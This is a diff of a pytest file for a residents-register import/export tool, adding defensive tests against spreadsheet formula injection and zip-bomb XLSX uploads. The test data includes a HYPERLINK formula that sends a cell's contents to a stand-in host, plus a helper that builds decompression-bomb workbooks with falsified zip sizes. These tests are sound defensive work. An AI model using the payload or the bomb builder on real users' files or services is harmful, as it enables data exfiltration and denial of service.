@@ -13,10 +13,12 @@ import pytest
 from sqlalchemy import func, select
 from sqlalchemy.orm import Session, sessionmaker
 
+from config.settings import RegisterSettings, SettingsError, load_settings
 from storage.db import transaction
 from storage.models import Building, FamilyContact, Resident, Ticket, Visit, Worker
 from storage.register import (
     TEMPLATE_HEADERS,
+    ImportLimits,
     ImportReport,
     RegisterFileError,
     adopt_register_entry,
@@ -516,3 +518,151 @@ def test_two_register_entries_at_one_address_are_not_guessed_between(tmp_path, f
 
     assert adopted is False
     assert count(factory, Resident) == 3 + 2 + 1
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://x.example/?"&B2,"点此")', "+1+1", "-2+3", "@SUM(1+1)"]
+
+
+def test_formula_like_cells_leave_as_text_and_come_back_unchanged(tmp_path, factory, clock) -> None:
+    """A name, relation or family name that looks like a formula never runs when the export is opened."""
+    rows = [
+        [name, f"1380000011{n}", "2号楼", "1", f"40{n}", "普通", "否", "", "＠李强", "=儿子", ""]
+        for n, name in enumerate(FORMULA_NAMES)
+    ]
+    rows.append(["\t=1+1", "13800000119", "2号楼", "1", "409", "普通", "否", "", "", "", ""])
+    assert load(factory, write_csv(tmp_path / "register.csv", [HEADER, *rows]), clock).created == 5
+    as_csv, as_xlsx = tmp_path / "export.csv", tmp_path / "export.xlsx"
+    with transaction(factory) as session:
+        export_register(session, as_csv)
+        export_register(session, as_xlsx)
+
+    with as_csv.open(encoding="utf-8-sig", newline="") as handle:
+        header, *exported = list(csv.reader(handle))
+    cells = [cell for row in exported for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＠"))]
+    by_room = {row[4]: dict(zip(header, row, strict=True)) for row in exported}
+    assert by_room["400"]["姓名"] == "'" + FORMULA_NAMES[0]
+    assert (by_room["401"]["姓名"], by_room["402"]["姓名"]) == ("'+1+1", "'-2+3")
+    assert (by_room["403"]["家属姓名"], by_room["403"]["家属关系"]) == ("'@李强", "'=儿子")
+    assert by_room["409"]["姓名"] == "'=1+1"
+
+    sheet = openpyxl.load_workbook(as_xlsx).worksheets[0]
+    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    names = {row[4]: row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
+    assert [names[f"40{n}"] for n in range(4)] == FORMULA_NAMES and names["409"] == "=1+1"
+
+    for exported_file in (as_csv, as_xlsx):
+        again = load(factory, exported_file, clock)
+        assert (again.created, again.updated, again.bad) == (0, 0, [])
+    assert resident(factory, "-2+3").family[0].relation == "=儿子"
+
+
+def bomb_xlsx(path: Path, rows: int, row_xml: str, declared_size: int | None = None) -> Path:
+    """A real workbook whose first sheet holds `rows` copies of one row: a few hundred KB on disk.
+
+    With declared_size, the zip's directory lies that the sheet unpacks to that many bytes.
+    """
+    normal = write_xlsx(path.with_suffix(".normal.xlsx"), [HEADER])
+    sheet = "xl/worksheets/sheet1.xml"
+    with zipfile.ZipFile(normal) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
+        for entry in source.infolist():
+            if entry.filename != sheet:
+                bomb.writestr(entry, source.read(entry))
+        header = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in HEADER)
+        with bomb.open(sheet, "w") as out:
+            out.write(
+                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+            )
+            out.write(f"<row>{header}</row>".encode())
+            chunk = (row_xml * 10_000).encode()
+            for _ in range(rows // 10_000):
+                out.write(chunk)
+            out.write(b"</sheetData></worksheet>")
+    if declared_size is not None:
+        _declare_size(path, sheet, declared_size)
+    return path
+
+
+def _declare_size(path: Path, name: str, size: int) -> None:
+    """Overwrite the unpacked size the zip's local header and directory give for one entry."""
+    data = bytearray(path.read_bytes())
+    with zipfile.ZipFile(path) as archive:
+        local = archive.getinfo(name).header_offset
+    data[local + 22 : local + 26] = size.to_bytes(4, "little")
+    directory = data.index(b"PK\x01\x02")
+    while data[directory + 46 : directory + 46 + len(name)] != name.encode():
+        directory = data.index(b"PK\x01\x02", directory + 4)
+    data[directory + 24 : directory + 28] = size.to_bytes(4, "little")
+    path.write_bytes(data)
+
+
+ROW = '<row><c t="inlineStr"><is><t>张三</t></is></c><c t="inlineStr"><is><t>13800000111</t></is></c></row>'
+
+
+def test_an_xlsx_that_unpacks_to_a_gigabyte_is_refused_unread(tmp_path, factory, clock) -> None:
+    bomb = bomb_xlsx(tmp_path / "台账.xlsx", rows=1_500_000, row_xml=ROW)
+    assert bomb.stat().st_size < 1024 * 1024
+    with zipfile.ZipFile(bomb) as archive:
+        assert sum(entry.file_size for entry in archive.infolist()) > 100 * 1024 * 1024
+    before = count(factory, Resident)
+    with pytest.raises(RegisterFileError) as refused:
+        load(factory, bomb, clock)
+    assert str(refused.value) == "refused: the file holds 146 MB of data, more than 100 MB"
+    assert count(factory, Resident) == before
+
+
+def test_a_part_packed_like_a_zip_bomb_is_refused_unread(tmp_path, factory, clock) -> None:
+    bomb = bomb_xlsx(tmp_path / "台账.xlsx", rows=200_000, row_xml=ROW)  # 19 MB in about 40 KB
+    with pytest.raises(RegisterFileError, match=r"refused: xl/worksheets/sheet1\.xml unpacks \d+ times"):
+        load(factory, bomb, clock)
+
+
+def test_a_zip_directory_that_understates_sizes_gets_no_further(tmp_path, factory, clock) -> None:
+    """Python's zipfile unpacks no more than an entry declares and then checks its CRC."""
+    liar = bomb_xlsx(tmp_path / "台账.xlsx", rows=1_500_000, row_xml=ROW, declared_size=4096)
+    before = count(factory, Resident)
+    with pytest.raises(RegisterFileError, match="not a readable XLSX workbook"):
+        load(factory, liar, clock)
+    assert count(factory, Resident) == before
+
+
+def test_rows_and_columns_past_the_limits_stop_the_import(tmp_path, factory, clock) -> None:
+    rows = [[f"住户{n}", "", "2号楼", "1", str(100 + n), "普通", "否", "", "", "", ""] for n in range(30)]
+    limits = ImportLimits(max_rows=20, max_columns=12)
+    for suffix, writer in ((".csv", write_csv), (".xlsx", write_xlsx)):
+        long_file = writer(tmp_path / f"long{suffix}", [HEADER, *rows])
+        wide_file = writer(tmp_path / f"wide{suffix}", [HEADER, rows[0], [*rows[1], "", "备注"]])
+        for path, refusal in (
+            (long_file, "more than 20 rows"),
+            (wide_file, "row 3 has more than 12 columns"),
+        ):
+            with transaction(factory) as session, pytest.raises(RegisterFileError) as refused:
+                import_register(session, path, default_checkin_minute=NINE_AM, now=clock(), limits=limits)
+            assert str(refused.value) == f"refused: {refusal}"
+    assert count(factory, Resident) == 3  # the demo residents only
+
+
+def test_a_sheet_with_more_rows_than_allowed_is_refused_before_openpyxl_reads_it(
+    tmp_path, factory, clock
+) -> None:
+    """openpyxl parses every sheet from end to end when it opens a workbook: rows are counted first."""
+    path = tmp_path / "台账.xlsx"
+    workbook = openpyxl.Workbook(write_only=True)
+    register = workbook.create_sheet("台账")
+    register.append(HEADER)
+    register.append(["王秀英", "13800000111", "2号楼", "1", "402", "特困", "是", "08:30", "", "", ""])
+    log = workbook.create_sheet("走访记录")  # not read by the import, but opened (and parsed) all the same
+    for n in range(50_001):
+        log.append([f"2026-11-{n % 28 + 1:02d}", "走访", n, "情况良好"])
+    workbook.save(path)
+    with pytest.raises(RegisterFileError) as refused:
+        load(factory, path, clock)
+    assert str(refused.value) == "refused: xl/worksheets/sheet2.xml has more than 50000 rows"
+    assert count(factory, Resident) == 3
+
+
+def test_the_limits_are_settings_checked_at_start() -> None:
+    assert load_settings(environ={}).register == RegisterSettings(50_000, 100, 100, 100)
+    assert load_settings(environ={"GRIDDESK_REGISTER_MAX_ROWS": "80000"}).register.max_rows == 80_000
+    with pytest.raises(SettingsError, match=r"register\.max_compression_ratio must be at least 1"):
+        load_settings(environ={"GRIDDESK_REGISTER_MAX_COMPRESSION_RATIO": "0"})
